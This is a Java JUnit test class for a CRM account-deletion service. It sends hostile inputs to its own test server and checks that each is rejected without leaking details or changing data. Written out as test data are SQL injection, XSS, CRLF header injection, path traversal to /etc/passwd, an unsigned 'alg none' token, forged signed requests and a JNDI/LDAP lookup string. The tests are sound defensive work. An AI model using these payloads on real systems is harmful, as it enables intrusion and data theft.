package id.whatscrm.deletion.web;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.locks.LockSupport;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.jdbc.core.JdbcTemplate;

import id.whatscrm.deletion.demo.DemoAccounts;
import id.whatscrm.deletion.demo.DemoMailServer;
import id.whatscrm.deletion.demo.DemoMeta;
import id.whatscrm.deletion.demo.DemoTokens;
import id.whatscrm.deletion.demo.EmbeddedDatabases;
import id.whatscrm.deletion.demo.Inbox;
import id.whatscrm.deletion.demo.PostOffice;
import id.whatscrm.deletion.request.ConfirmationCode;
import id.whatscrm.deletion.support.ServiceTest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

/**
 * What hostile people send, over all channels: each gets a clear answer, changes nothing,
 * and learns nothing.
 */
@ServiceTest
@TestInstance(Lifecycle.PER_CLASS)
class HostileInputTests {

	/** An address of a network of its own, since the attacks count against its limit. */
	private static final String SOURCE = "203.0.113.";

	private static final List<String> NO_ADDRESSES = List.of("", " ", "sari", "sari@", "@warung.example", "sari@warung",
			"sari@@warung.example", "sari warung@x.example", "a@b.example,c@d.example", "Sari <sari@warung.example>",
			"sari@warung.example\r\nBcc: all@x.example", "sari@warung.example\nContent-Type: text/html",
			"sari@warung.example\u0000", "sari@warung.example\u2028x", "' or 1=1 --@x.example",
			"<script>alert(1)</script>@x.example", "${7*(7)}@x.example", "sari@-warung.example", "sari@warung..example",
			"x".repeat(65) + "@x.example", "x@" + "y".repeat(250) + ".example", "sari@[127.0.0.1]",
			"\"sari\"@warung.example");

	private final HttpClient client = HttpClient.newBuilder().followRedirects(HttpClient.Redirect.NEVER).build();

	private final DemoTokens tokens;

	private final DemoMeta meta;

	private final DemoMailServer mails;

	private final String base;

	private final JdbcTemplate crm = EmbeddedDatabases.shared().crm();

	private final JdbcTemplate database = EmbeddedDatabases.shared().deletion();

	private final String owner = "nina@" + UUID.randomUUID().toString().substring(0, 8) + ".example";

	private final String account = DemoAccounts.createSmall(this.crm, "Soto Nina", this.owner);

	private String cookie = "";

	private String formToken = "";

	private Map<String, Object> before = Map.of();

	private int requests;

	@Autowired
	HostileInputTests(DemoTokens tokens, DemoMeta meta, DemoMailServer mails,
			@Value("${deletion.public-url}") String base) {
		this.tokens = tokens;
		this.meta = meta;
		this.mails = mails;
		this.base = base;
	}

	@BeforeAll
	void aFormWithItsToken() throws Exception {
		HttpResponse<String> form = this.client
			.send(HttpRequest.newBuilder(URI.create(this.base + "/requests/new")).build(), BodyHandlers.ofString());
		this.cookie = form.headers().firstValue("Set-Cookie").orElseThrow().replaceAll(";.*", "");
		Matcher token = Pattern.compile("name=\"_csrf\"[^>]*value=\"([^\"]+)\"").matcher(form.body());
		assertThat(token.find()).isTrue();
		this.formToken = token.group(1);
		this.before = state();
	}

	@BeforeEach
	void another() {
		this.requests++;
	}

	/**
	 * An attack.
	 *
	 * @param name what it is
	 * @param status what is answered
	 * @param method the HTTP method
	 * @param path where it goes
	 * @param body what is sent; {@code null} for nothing
	 * @param headers the headers by their names
	 */
	record Attack(String name, int status, String method, String path, String body, Map<String, String> headers) {

		Attack by(String otherMethod) {
			return new Attack(this.name, this.status, otherMethod, this.path, this.body, this.headers);
		}

		Attack header(String header, String value) {
			Map<String, String> all = new LinkedHashMap<>(this.headers);
			all.put(header, value);
			return new Attack(this.name, this.status, this.method, this.path, this.body, all);
		}

		@Override
		public String toString() {
			return this.name;
		}

	}

	Stream<Attack> attacks() {
		List<Attack> attacks = new ArrayList<>();
		// The form of Method 2
		IntStream.range(0, NO_ADDRESSES.size()).forEach((i) -> {
			attacks.add(form("form, e-mail " + i, 422, Map.of("email", NO_ADDRESSES.get(i))));
			if (!NO_ADDRESSES.get(i).isBlank()) {
				attacks.add(form("form, other address " + i, 422,
						Map.of("email", this.owner, "unreachable", "true", "contactEmail", NO_ADDRESSES.get(i))));
			}
		});
		Map<String, List<String>> fields = new LinkedHashMap<>();
		fields.put("businessName", List.of("Soto\r\nBcc: x", "Soto\u0000", "So\u2029to", "x".repeat(201), "a\u0085b"));
		fields.put("whatsappNumber", List.of("call me", "+62", "1".repeat(41), "0812\r\nX: y", "0812; drop table"));
		fields.put("metaBusinessId", List.of("abc", "-1", "1".repeat(33), "1 or 1=1", "१२३"));
		fields.put("description", List.of("a\u0000b", "a\u0007b", "x".repeat(4001)));
		fields.put("website", List.of("https://spam.example"));
		fields.forEach((field, values) -> values.forEach((value) -> attacks.add(
				form("form, " + field + " " + values.indexOf(value), 422, Map.of("email", this.owner, field, value)))));
		attacks.add(form("form without its token", 403, Map.of("email", this.owner, "_csrf", "")));
		attacks.add(form("form with another token", 403, Map.of("email", this.owner, "_csrf", "x".repeat(36))));
		attacks
			.add(form("form that is too large", 413, Map.of("email", this.owner, "description", "x".repeat(70_000))));
		// Codes and links
		for (String code : List.of("x", "WD", "WD0000000000000000", "WD00000000000000001", "WD'%20or%20'1'='1",
				"%3Cscript%3E", "WD%E2%80%AE00000000000000", "WD" + "0".repeat(5000))) {
			attacks.add(get("status of " + code.substring(0, Math.min(20, code.length())), 404, "/requests/" + code));
		}
		attacks.add(get("status of a path", 400, "/requests/%2e%2e%2f%2e%2e%2fetc"));
		String unknown = ConfirmationCode.random().value();
		for (String action : List.of("confirm", "withdraw", "answer")) {
			for (String token : List.of("", "x", "A".repeat(43), "%27%20or%201=1", "x".repeat(4000))) {
				attacks.add(get(action + " with token " + token.length(), 404,
						"/requests/" + unknown + "/" + action + "?token=" + token));
			}
			attacks.add(post(action + " without form", 403, "/requests/" + unknown + "/" + action, "token=x"));
		}
		attacks.add(post("a new link without form", 403, "/requests/" + unknown + "/link", ""));
		attacks.add(get("confirming with DELETE", 403, "/requests/" + unknown).by("DELETE"));
		// Method 1
		IntStream.range(2, 12)
			.forEach((i) -> attacks.add(signIn("sign-in, " + i, 422, Map.of("username", NO_ADDRESSES.get(i)))));
		attacks.add(post("a sign-in link without form", 403, "/account/sign-in/link", "token=x"));
		attacks.add(get("the settings of a stranger", 302, "/account/settings"));
		attacks.add(get("the deletion page of a stranger", 302, "/account/settings/" + this.account + "/delete"));
		attacks.add(post("the deletion of a stranger", 403, "/account/settings/" + this.account + "/delete",
				"name=Soto Nina"));
		// The API
		attacks.add(api("API without token", 401, "{}", null));
		attacks.add(api("API with a word for a token", 401, "{}", "hello"));
		attacks.add(api("API with an unsigned token", 401, "{}",
				"eyJhbGciOiJub25lIn0.eyJhY2NvdW50X2lkIjoiMSIsImFjY291bnRfcm9sZSI6Im93bmVyIn0."));
		attacks.add(
				api("API with another key", 401, "{}", this.tokens.sign(DemoTokens.newKey(), this.account, (claims) -> {
				})));
		String token = this.tokens.token(this.account, (claims) -> {
		});
		attacks.add(api("API as a member", 403, "{}",
				this.tokens.token(this.account, (claims) -> claims.claim("account_role", "agent"))));
		attacks.add(api("API without account", 403, "{}",
				this.tokens.token(this.account, (claims) -> claims.claim("account_id", null))));
		for (String body : List.of("", "{", "[]", "null", "{\"description\":{}}", "{\"description\":\"a\\u0000b\"}",
				"{\"description\":\"" + "x".repeat(4001) + "\"}", "\u0000")) {
			attacks.add(api("API, body " + body.length(), body.contains("description\":\"") ? 422 : 400, body, token));
		}
		attacks.add(api("API in XML", 415, "<a/>", token).header("Content-Type", "application/xml"));
		attacks.add(get("another's request by the API", 404, "/api/v1/deletion-requests/" + unknown)
			.header("Authorization", "Bearer " + token));
		attacks.add(get("a code of the API that is none", 404, "/api/v1/deletion-requests/%3Cscript%3E")
			.header("Authorization", "Bearer " + token));
		// Meta
		String forged = DemoMeta.sign("{\"algorithm\":\"HMAC-SHA256\",\"user_id\":\"asid1\"}", "guessed");
		for (String call : List.of("data-deletion", "deauthorize")) {
			String path = "/meta/facebook/" + call;
			attacks.add(post(call + " with nothing", 400, path, ""));
			attacks.add(post(call + " forged", 400, path, "signed_request=" + forged));
			attacks.add(post(call + " for the other app", 400, "/meta/instagram/" + call, "signed_request=" + DemoMeta
				.sign("{\"algorithm\":\"HMAC-SHA256\",\"user_id\":\"asid1\"}", this.meta.secret("facebook"))));
			attacks.add(post(call + " of an app that is none", 404, "/meta/%3Cscript%3E/" + call, "signed_request=x"));
			attacks.add(post(call + " that is too large", 413, path, "signed_request=" + "x".repeat(70_000)));
			attacks.add(get(call + " by GET", 405, path));
		}
		// What must not be there
		attacks.add(get("the engine's REST API", 404, "/engine-rest/task"));
		attacks.add(get("the environment", 403, "/actuator/env"));
		attacks.add(get("a case file", 401, "/staff/tasks/1/case-file"));
		attacks.add(get("the set-up page", 403, "/camunda/app/admin/default/setup/"));
		attacks.add(get("a path above", 400, "/..%2f..%2fetc/passwd"));
		return attacks.stream();
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("attacks")
	void isAnsweredAndChangesNothing(Attack attack) throws Exception {
		HttpResponse<String> answer = send(attack);

		assertThat(answer.statusCode()).isEqualTo(attack.status());
		assertThat(answer.body()).doesNotContain("Exception", "org.springframework", "org.postgresql", "\tat ",
				"<script>alert", "select ");
		assertThat(answer.headers().map()).doesNotContainKeys("Server", "server", "X-Powered-By", "x-powered-by", "bcc",
				"Bcc");
		assertThat(answer.headers().firstValue("Location").orElse("/account/sign-in")).endsWith("/account/sign-in");
		assertThat(state()).isEqualTo(this.before);
		assertThat(new Inbox(this.mails).subjects(this.owner)).isEmpty();
	}

	/** Mails that a machine sent or that only look like a request. */
	@ParameterizedTest
	@MethodSource("hostileMails")
	void mailStartsNothing(String headers, String text) {
		int left = this.mails.count("Other");

		new PostOffice(this.mails).write("nina@mail.example", "Hello", headers, text);

		for (int i = 0; i < 600 && this.mails.count("Other") == left; i++) {
			LockSupport.parkNanos(50_000_000);
		}
		assertThat(this.mails.count("Other")).isEqualTo(left + 1);
		assertThat(state()).isEqualTo(this.before);
		assertThat(new Inbox(this.mails).subjects("nina@mail.example")).isEmpty();
	}

	static Stream<Arguments> hostileMails() {
		return Stream.of(arguments("Auto-Submitted: auto-generated\n", "Delete my account"),
				arguments("Precedence: junk\n", "Delete my account"),
				arguments("In-Reply-To: <WD0000000000000000.question.0.1." + "a".repeat(32) + "@localhost>\n", "yes"),
				arguments("References: <' or 1=1 --@x>\n", "Good morning"),
				arguments("", "${jndi:ldap://x.example/a} {{7*7}}"));
	}

	private HttpResponse<String> send(Attack attack) throws Exception {
		HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(this.base + attack.path()))
			.header("X-Forwarded-For", SOURCE + (this.requests / 100))
			.header("Accept-Language", "en")
			.method(attack.method(),
					(attack.body() != null) ? BodyPublishers.ofString(attack.body()) : BodyPublishers.noBody());
		attack.headers().forEach(request::header);
		return this.client.send(request.build(), BodyHandlers.ofString());
	}

	/** A form that carries its token, as a browser sends it, unless it brings one. */
	private Attack form(String name, int status, Map<String, String> fields) {
		return withToken(name, status, "/requests/new", fields);
	}

	private Attack signIn(String name, int status, Map<String, String> fields) {
		return withToken(name, status, "/account/sign-in", fields);
	}

	private Attack withToken(String name, int status, String path, Map<String, String> fields) {
		Map<String, String> all = new LinkedHashMap<>(Map.of("_csrf", this.formToken));
		all.putAll(fields);
		StringBuilder body = new StringBuilder();
		all.forEach((field, value) -> body.append(body.isEmpty() ? "" : "&")
			.append(field)
			.append('=')
			.append(URLEncoder.encode(value, StandardCharsets.UTF_8)));
		return post(name, status, path, body.toString()).header("Cookie", this.cookie);
	}

	private static Attack get(String name, int status, String path) {
		return new Attack(name, status, "GET", path, null, Map.of());
	}

	private static Attack post(String name, int status, String path, String body) {
		return new Attack(name, status, "POST", path, body, Map.of()).header("Content-Type",
				"application/x-www-form-urlencoded");
	}

	private static Attack api(String name, int status, String body, String token) {
		Attack attack = new Attack(name, status, "POST", "/api/v1/deletion-requests", body, Map.of())
			.header("Content-Type", "application/json");
		return (token != null) ? attack.header("Authorization", "Bearer " + token) : attack;
	}

	/** Everything that an attack could change. */
	private Map<String, Object> state() {
		Map<String, Object> state = new LinkedHashMap<>(this.database.queryForMap("""
				select (select count(*) from deletion_request) as requests,
				    (select count(*) from form_submission) as submissions,
				    (select count(*) from identity_token) as tokens,
				    (select count(*) from sign_in_token) as sign_ins,
				    (select count(*) from request_mail) as mails,
				    (select count(*) from meta_deauthorisation) as deauthorisations,
				    (select count(*) from act_ru_execution) as executions,
				    (select count(*) from act_hi_procinst) as instances"""));
		state.put("accounts", this.crm
			.queryForObject("select md5(string_agg(a::text, ',' order by id)) from crm.account a", String.class));
		state.put("connections", this.crm.queryForObject(
				"select md5(string_agg(c::text, ',' order by id)) from crm.meta_connection c", String.class));
		return state;
	}

}
